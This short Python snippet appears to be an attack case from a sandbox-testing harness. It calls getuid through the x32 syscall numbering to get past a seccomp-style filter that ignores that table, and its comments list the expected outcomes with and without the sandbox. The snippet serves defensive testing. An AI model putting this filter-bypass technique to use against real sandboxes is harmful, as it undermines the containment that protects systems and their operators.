# Call the kernel by the numbers of the x32 table, past a filter that forgot it.
# none: lost or won
# sandboxed: lost or misbehaved
def attack(world):
    getuid_of_x32 = 0x40000000 | 102
    return str(world.raw_syscall(getuid_of_x32))
